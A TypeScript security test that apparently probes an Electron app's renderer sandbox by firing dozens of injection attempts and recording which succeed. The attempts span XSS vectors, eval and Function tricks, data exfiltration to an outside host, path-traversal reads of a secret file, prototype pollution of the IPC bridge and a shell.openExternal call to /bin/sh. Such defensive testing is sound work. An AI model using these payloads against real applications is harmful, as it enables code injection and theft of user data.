/**
 * What a script that got into the page would try. One function, since it is carried into the page as text; it must use nothing from outside of itself.
 * Whatever works leaves its name in `hits`, or at the server outside, whose address it is given.
 */

export interface Tried {
  readonly tried: readonly string[];
  readonly worked: readonly string[];
}

/** `outside` is an address that the page has no business with. */
export async function tryEverything(outside: string): Promise<Tried> {
  const hits: string[] = [];
  Object.assign(globalThis, { hits });
  const code = (name: string) => `(globalThis.hits ?? top.hits).push(${JSON.stringify(name)})`;
  const at = (name: string) => `${outside}/${encodeURIComponent(name)}`;
  const file = 'file:///etc/hostname';
  const element = (tag: string, attributes: Readonly<Record<string, string>> = {}, text = '') => {
    const made = document.createElement(tag);
    for (const [attribute, value] of Object.entries(attributes)) made.setAttribute(attribute, value);
    if (text !== '') made.textContent = text;
    document.body.append(made);
    return made;
  };
  const html = (markup: string) => {
    const place = element('div');
    place.innerHTML = markup;
  };
  const blob = (text: string, type: string) => URL.createObjectURL(new Blob([text], { type }));
  const scope = globalThis as unknown as Record<string, (...given: unknown[]) => unknown>;
  const made = (constructor: unknown, text: string) => (constructor as (text: string) => () => unknown)(text)();
  const frame = () => element('iframe') as HTMLIFrameElement;
  const link = (rel: string, name: string, more: Readonly<Record<string, string>> = {}) => element('link', { rel, href: at(name), ...more });
  const nonce = document.querySelector<HTMLMetaElement>('meta[name="csp-nonce"]')?.content ?? '';
  const bridge = (globalThis as unknown as { floatbook?: { call(call: unknown): Promise<{ outcome: string }> } }).floatbook;
  const answered = async (name: string, call: unknown) => {
    if ((await bridge?.call(call))?.outcome === 'ok') hits.push(name);
  };
  const media = async (name: string, ask: () => Promise<unknown> | undefined) => {
    if ((await ask()) !== undefined) hits.push(name);
  };

  const attempts: Record<string, (name: string) => unknown> = {
    // Code from text.
    eval: (name) => scope['eval']?.(code(name)),
    'eval, indirect': (name) => [scope['eval']][0]?.(code(name)),
    Function: (name) => made(scope['Function'], code(name)),
    'Function by a constructor': (name) => made((() => undefined).constructor, code(name)),
    AsyncFunction: (name) => made((async () => undefined).constructor, code(name)),
    GeneratorFunction: (name) => (made(function* none() {}.constructor, code(name)) as Generator).next(),
    'Function by the bridge': (name) => made(Object.getPrototypeOf(bridge?.call ?? (() => undefined)).constructor, code(name)),
    'setTimeout with text': (name) => scope['setTimeout']?.(code(name)),
    'setInterval with text': (name) => clearInterval(setTimeout(() => undefined) && (scope['setInterval']?.(code(name), 50) as number | undefined)),
    'WebAssembly from bytes': (name) => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => hits.push(name)),
    'eval of a frame': (name) => (frame().contentWindow as unknown as typeof scope)['eval']?.(code(name)),
    'Function of a frame': (name) => made((frame().contentWindow as unknown as typeof scope)['Function'], code(name)),

    // Code in elements.
    'script in the page': (name) => element('script', {}, code(name)),
    'script with the nonce of styles': (name) => element('script', { nonce }, code(name)),
    'script as a module': (name) => element('script', { type: 'module' }, code(name)),
    'script from data': (name) => element('script', { src: `data:text/javascript,${encodeURIComponent(code(name))}` }),
    'script from a blob': (name) => element('script', { src: blob(code(name), 'text/javascript') }),
    'script from outside': (name) => element('script', { src: at(name) }),
    'script by a fragment': (name) => document.body.append(document.createRange().createContextualFragment(`<script>${code(name)}</script>`)),
    'script by parsing': (name) =>
      document.body.append(document.adoptNode(new DOMParser().parseFromString(`<script>${code(name)}</script>`, 'text/html').scripts[0] as Node)),
    'script written into a frame': (name) => frame().contentDocument?.write(`<script>${code(name)}</script>`),
    'script in a svg': (name) => html(`<svg><script>${code(name)}</script></svg>`),
    'map of imports': (name) => element('script', { type: 'importmap' }, JSON.stringify({ imports: { [name]: at(name) } })),
    'rules of speculation': (name) =>
      element('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ source: 'list', urls: [at(name)] }] })),
    'handler of an image': (name) => html(`<img src="data:," onerror='${code(name)}'>`),
    'handler of a svg': (name) => html(`<svg onload='${code(name)}'></svg>`),
    'handler of a detail': (name) => html(`<details open ontoggle='${code(name)}'>x</details>`),
    'handler of an animation': (name) => html(`<svg><animate onbegin='${code(name)}' attributeName=x dur=1s></animate></svg>`),
    'handler set by hand': (name) => {
      const button = element('button', { onclick: code(name) });
      (button as HTMLButtonElement).click();
    },
    'link with code': (name) => (element('a', { href: `javascript:${code(name)}` }) as HTMLAnchorElement).click(),
    'frame with code': (name) => element('iframe', { src: `javascript:${code(name)}` }),
    'frame with its own page': (name) => element('iframe', { srcdoc: `<script>${code(name)}</script>` }),
    'frame with a sandbox': (name) => element('iframe', { sandbox: 'allow-scripts allow-same-origin', srcdoc: `<script>${code(name)}</script>` }),
    'form with code': (name) => (element('form', { action: `javascript:${code(name)}` }) as HTMLFormElement).submit(),
    'object with code': (name) => element('object', { data: `data:text/html,<script>${encodeURIComponent(code(name))}</script>` }),
    'embed with code': (name) => element('embed', { src: `data:text/html,<script>${encodeURIComponent(code(name))}</script>` }),
    'webview with code': (name) =>
      element('webview', { src: `data:text/html,<script>${encodeURIComponent(code(name))}</script>`, nodeintegration: '' }),

    // Modules and workers.
    'import from data': (name) => import(/* @vite-ignore */ `data:text/javascript,${encodeURIComponent(code(name))}`),
    'import from a blob': (name) => import(/* @vite-ignore */ blob(code(name), 'text/javascript')),
    'import from outside': (name) => import(/* @vite-ignore */ at(name)),
    'worker from a blob': (name) => {
      new Worker(blob('postMessage(1)', 'text/javascript')).addEventListener('message', () => hits.push(name));
    },
    'worker from data': (name) => {
      new Worker('data:text/javascript,postMessage(1)').addEventListener('message', () => hits.push(name));
    },
    'shared worker from a blob': (name) => {
      const worker = new SharedWorker(blob('onconnect = ({ ports }) => ports[0].postMessage(1)', 'text/javascript'));
      worker.port.addEventListener('message', () => hits.push(name));
      worker.port.start();
    },
    'service worker': (name) => navigator.serviceWorker.register(document.scripts[0]?.src ?? '/').then(() => hits.push(name)),

    // Out into the network.
    fetch: (name) => fetch(at(name)),
    'fetch without reading': (name) => fetch(at(name), { mode: 'no-cors', method: 'POST', body: 'x' }),
    'fetch that outlives the page': (name) => fetch(at(name), { keepalive: true, mode: 'no-cors' }),
    XMLHttpRequest: (name) => {
      const request = new XMLHttpRequest();
      request.open('GET', at(name));
      request.send();
    },
    WebSocket: (name) => new WebSocket(at(name).replace('http', 'ws')),
    EventSource: (name) => new EventSource(at(name)),
    beacon: (name) => navigator.sendBeacon(at(name), 'x'),
    image: (name) => element('img', { src: at(name) }),
    'image in a source set': (name) => element('img', { srcset: `${at(name)} 2x` }),
    'picture behind an element': (name) => (element('div').style.backgroundImage = `url("${at(name)}")`),
    'style with the nonce': (name) => element('style', { nonce }, `@import url("${at(name)}");`),
    'picture by a style with the nonce': (name) => {
      element('style', { nonce }, `.stolen { background: url("${at(name)}"); width: 9px; height: 9px }`);
      element('div', { class: 'stolen' });
    },
    font: (name) => new FontFace('stolen', `url("${at(name)}")`).load(),
    sound: (name) => element('audio', { src: at(name), autoplay: '' }),
    video: (name) => element('video', { src: at(name), autoplay: '' }),
    subtitle: (name) => html(`<video><track default src="${at(name)}"></video>`),
    stylesheet: (name) => link('stylesheet', name),
    prefetch: (name) => link('prefetch', name),
    preload: (name) => link('preload', name, { as: 'image' }),
    'preload of a module': (name) => link('modulepreload', name),
    'icon of the page': (name) => link('icon', name),
    manifest: (name) => link('manifest', name),
    ping: (name) => (element('a', { href: '#/overview', ping: at(name) }) as HTMLAnchorElement).click(),
    'form that posts': (name) => (element('form', { action: at(name), method: 'post' }) as HTMLFormElement).submit(),
    'form into a frame': (name) => {
      element('iframe', { name: 'stolen' });
      (element('form', { action: at(name), method: 'post', target: 'stolen' }) as HTMLFormElement).submit();
    },
    frame: (name) => element('iframe', { src: at(name) }),
    'frame that goes on': (name) => (frame().contentWindow as Window).location.replace(at(name)),
    object: (name) => element('object', { data: at(name) }),
    embed: (name) => element('embed', { src: at(name) }),
    'base of addresses': (name) => {
      element('base', { href: `${outside}/` });
      element('img', { src: encodeURIComponent(name) });
    },

    // Files and other places.
    'fetch of a file': (name) => fetch(file).then(() => hits.push(name)),
    'request of a file': (name) => {
      const request = new XMLHttpRequest();
      request.addEventListener('load', () => hits.push(name));
      request.open('GET', file);
      request.send();
    },
    'image of a file': (name) => element('img', { src: file }).addEventListener('load', () => hits.push(name)),
    'frame of a file': (name) => element('iframe', { src: file, name }),
    'out of the folder': async (name) => {
      for (const path of [
        '/..%2fmain%2fmain.js',
        '/..%2frenderer-secret%2fsecret.json',
        '/%2e%2e%2frenderer-secret/secret.json',
        '/..%5crenderer-secret%5csecret.json',
      ])
        if ((await fetch(path)).ok) hits.push(name);
    },
    'another method': async (name) => {
      if ((await fetch('/index.html', { method: 'PUT', body: 'x' })).ok) hits.push(name);
    },
    'address of another site': (name) => {
      history.pushState(null, '', outside);
      hits.push(name);
    },
    'domain of another site': (name) => {
      document.domain = 'test';
      if (document.domain === 'test') hits.push(name);
    },

    // Devices and the user's consent.
    'where the user is': (name) =>
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject, { timeout: 1000 })).then(() => hits.push(name)),
    camera: (name) => media(name, () => navigator.mediaDevices?.getUserMedia({ video: true, audio: true })),
    screen: (name) => media(name, () => navigator.mediaDevices?.getDisplayMedia()),
    'what was copied': (name) => media(name, () => navigator.clipboard?.readText()),
    'keys of a piano': (name) => media(name, () => navigator.requestMIDIAccess?.({ sysex: true })),
    'a device': (name) =>
      media(name, () => (navigator as unknown as { usb?: { requestDevice(filter: object): Promise<unknown> } }).usb?.requestDevice({ filters: [] })),

    // What lies beyond the page.
    'Node in the page': (name) => {
      for (const word of ['process', 'require', 'module', 'Buffer', 'electron', 'ipcRenderer', '__dirname']) if (word in globalThis) hits.push(name);
    },
    'another bridge': (name) => {
      const before = bridge;
      Object.assign(globalThis, { floatbook: { call: () => undefined } });
      if (before !== undefined && (globalThis as { floatbook?: unknown }).floatbook !== before) hits.push(name);
    },
    'a bridge with more in it': (name) => {
      if (bridge === undefined) return;
      Object.assign(bridge, { call: () => undefined });
      hits.push(name);
    },
    'a method of every object': async (name) => {
      for (const method of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']) await answered(name, { method, input: {} });
    },
    'a prototype in a call': (name) =>
      answered(name, {
        ['__proto__']: { method: 'app.state', input: {} },
        method: 'app.state',
        input: JSON.parse('{"__proto__":{"polluted":1}}'),
        extra: 1,
      }),
    'a prototype in an input': (name) =>
      answered(name, { method: 'app.state', input: JSON.parse('{"constructor":{"prototype":{"polluted":1}}}') as unknown }),
    'a file of another export': (name) => answered(name, { method: 'download.piece', input: { download: '../../../../etc/hostname', offset: 0 } }),
    'a method that there is not': (name) => answered(name, { method: 'shell.openExternal', input: { url: 'file:///bin/sh' } }),
    'a call that says who it is': (name) =>
      answered(name, { method: 'app.state', input: {}, sender: { id: 1 }, senderFrame: { url: 'app://floatbook/' } }),
    'the bridge of a frame': async (name) => {
      const inner = frame().contentWindow as unknown as { floatbook?: unknown; floatbookCall?: (call: unknown) => Promise<{ outcome?: string }> };
      if (inner.floatbook !== undefined) hits.push(name);
      if ((await inner.floatbookCall?.({ method: 'app.state', input: {} }))?.outcome === 'ok') hits.push(name);
    },
  };
  const started: Promise<unknown>[] = [];
  // In a timer: the debugger that runs this lifts the policy's ban on code from text for its own call.
  await new Promise<void>((resolve) => {
    setTimeout(() => {
      for (const [name, attempt] of Object.entries(attempts))
        started.push(
          (async () => attempt(name))().catch(() => {
            /* What is thrown did not work. */
          }),
        );
      resolve();
    });
  });
  const patience = new Promise((resolve) => setTimeout(resolve, 2500));
  await Promise.race([Promise.all(started).then(() => new Promise((resolve) => setTimeout(resolve, 700))), patience]);
  return { tried: Object.keys(attempts), worked: [...new Set(hits)] };
}
